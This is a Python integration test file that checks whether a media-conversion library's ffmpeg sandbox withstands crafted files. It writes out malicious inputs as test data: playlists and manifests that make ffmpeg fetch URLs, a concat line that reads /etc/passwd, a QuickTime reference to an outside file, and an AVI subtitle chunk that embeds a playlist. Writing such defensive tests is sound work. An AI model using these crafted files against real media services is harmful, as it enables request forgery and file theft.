"""Media files made to reach what is not theirs: other files, the network, our secrets, all of our memory."""

from __future__ import annotations

import os
import socket
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import psutil
import pytest
from fixtures.media import H264, Made

from kongdori.errors import KongdoriError, UnsupportedMedia
from kongdori.media import ffmpeg, landlock, probe, rendition

pytestmark = pytest.mark.integration

TAG = b"ID3\x03\x00\x00\x00\x00\x00\x0dTIT2\x00\x00\x00\x03\x00\x00\x00Ab"


@pytest.fixture
def listener() -> Iterator[socket.socket]:
    """Nobody is to come here."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        server.settimeout(0)
        yield server


def address(listener: socket.socket) -> str:
    return f"127.0.0.1:{listener.getsockname()[1]}"


def convert(path: Path, to: Path) -> None:
    info = probe.probe(path)
    probe.length(info)
    rendition.make_playable(info, to, timeout_s=20, max_output_bytes=10**8)


@pytest.mark.parametrize(
    "before", [b"", TAG, bytes(300), b"\xef\xbb\xbf", b"\x00\x00\x00\x20ftypisom", b"OggS\x00\x02"]
)
@pytest.mark.parametrize(
    "text",
    [
        "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nhttp://{0}/a.ts\n#EXT-X-ENDLIST\n",
        "#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\nconcat:http://{0}/a|file:///etc/passwd\n",
        "ffconcat version 1.0\nfile 'http://{0}/a.mp4'\n",
        '<?xml version="1.0"?><MPD><Period><AdaptationSet><Representation><BaseURL>http://{0}/</BaseURL>'
        "</Representation></AdaptationSet></Period></MPD>",
        '<?xml version="1.0"?><SmoothStreamingMedia><StreamIndex Url="http://{0}/"/></SmoothStreamingMedia>',
        "v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=audio 5000 RTP/AVP 0\na=control:rtsp://{0}/\n",
        "[Reference]\nRef1=http://{0}/a.asf\n",
        "RTSPtext\nrtsp://{0}/a\n",
    ],
)
def test_nothing_in_a_file_opens_a_connection(
    listener: socket.socket, tmp_path: Path, before: bytes, text: str
) -> None:
    path = tmp_path / "film.mp4"
    path.write_bytes(before + text.format(address(listener)).encode() * 3)
    with pytest.raises(KongdoriError):
        convert(path, tmp_path / "copy.mp4")
    with pytest.raises(BlockingIOError):
        listener.accept()


@pytest.mark.skipif(not landlock.version(), reason="this kernel has no Landlock")
def test_ffmpeg_itself_can_open_its_input_and_its_output_alone(made: Made, tmp_path: Path) -> None:
    """Whatever a file makes its code do: here its own arguments ask for more."""
    path, work, elsewhere = made("a.mp4", *H264), tmp_path / "work", tmp_path / "elsewhere"
    for folder in (work, elsewhere):
        folder.mkdir()
    secret = elsewhere / "secret.mp4"
    secret.write_bytes(path.read_bytes())
    given = ffmpeg.Input(path, "mov").arguments()

    def run(*more: str, to: Path) -> list[str]:
        return ffmpeg.run(
            [*given, *more, f"file:{to}"], to=work / "copy.mp4", timeout_s=20, max_output_bytes=10**7
        ).lines

    run("-c", "copy", to=work / "copy.mp4")
    assert (work / "copy.mp4").stat().st_size > 0
    read = run("-filter_complex", f"movie={secret}", "-t", "1", to=work / "stolen.mp4")
    written = run("-c", "copy", to=elsewhere / "planted.mp4")
    assert any("Permission denied" in line for line in read), read
    assert any("Permission denied" in line for line in written), written
    assert not (elsewhere / "planted.mp4").exists()


def test_a_film_that_keeps_its_frames_in_another_file_gets_none_of_it(made: Made, tmp_path: Path) -> None:
    """The data reference of a QuickTime film may name another file."""
    path, secret = made("a.mov", *H264), tmp_path / "secret.bin"
    secret.write_bytes(b"our secret " * 50_000)
    film = path.read_bytes()
    own = b"\x00\x00\x00\x0curl \x00\x00\x00\x01"  # flag 1: in this very file
    assert own in film
    path.write_bytes(film.replace(own, b"\x00\x00\x00\x0curl \x00\x00\x00\x00"))
    copy = tmp_path / "copy.mp4"
    convert(path, copy)
    assert b"our secret" not in copy.read_bytes()


def test_a_subtitle_stream_that_is_a_playlist_is_not_followed(
    listener: socket.socket, made: Made, tmp_path: Path
) -> None:
    """An AVI file may hold a subtitle file of its own, which ffmpeg opens with a demuxer of that file's choice."""
    playlist = f"#EXTM3U\n#EXT-X-MEDIA-SEQUENCE:0\n#EXTINF:1.0,\nhttp://{address(listener)}/a.ts\n".encode()
    chunk = b"GAB2\x00\x02\x00\x02\x00\x00\x00a\x00\x04\x00" + len(playlist).to_bytes(4, "little") + playlist
    film = made("a.avi", "-c:v", "mpeg4", "-c:a", "mp3").read_bytes()
    at = film.index(b"movi") + 4
    path = tmp_path / "b.avi"
    path.write_bytes(film[:at] + b"02tx" + len(chunk).to_bytes(4, "little") + chunk + film[at:])
    convert(path, tmp_path / "copy.mp4")
    with pytest.raises(BlockingIOError):
        listener.accept()


def test_a_picture_larger_than_8k_is_refused_before_it_is_decoded(tmp_path: Path) -> None:
    path = tmp_path / "a.avi"
    command = [str(ffmpeg.executable()), "-nostdin", "-loglevel", "error", "-f", "lavfi"]
    subprocess.run([*command, "-i", "color=s=9000x9000", "-frames:v", "1", "-c:v", "mjpeg", str(path)], check=True)
    with pytest.raises(UnsupportedMedia) as refused:
        probe.probe(path)
    assert refused.value.code == "picture-too-large"


@pytest.mark.skipif(sys.platform != "linux", reason="the kernel's limits are set on Linux only")
def test_ffmpeg_knows_no_secret_and_is_capped(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("APP_SECRET_ARN", "hush")
    endless = ["-f", "lavfi", "-i", "testsrc=rate=25", "-f", "null", "-"]
    seen: dict[str, object] = {}

    def look(_seconds: float) -> None:
        for child in psutil.Process(os.getpid()).children():
            if child.name().startswith("ffmpeg") and not seen:
                seen["environment"] = sorted(child.environ())
                seen["memory"] = child.rlimit(psutil.RLIMIT_AS)[1]
                seen["files"] = child.rlimit(psutil.RLIMIT_NOFILE)[1]
                seen["output"] = child.rlimit(psutil.RLIMIT_FSIZE)[1]
                seen["processor"] = child.rlimit(psutil.RLIMIT_CPU)[1]
                child.kill()

    ffmpeg.run(endless, timeout_s=60, max_output_bytes=12345, on_progress=look)
    assert seen == {
        "environment": ["AV_LOG_FORCE_NOCOLOR", "GCONV_PATH", "PATH"],
        "memory": 2560 * 1024**2,
        "files": 64,
        "output": 12345,
        "processor": 490,
    }
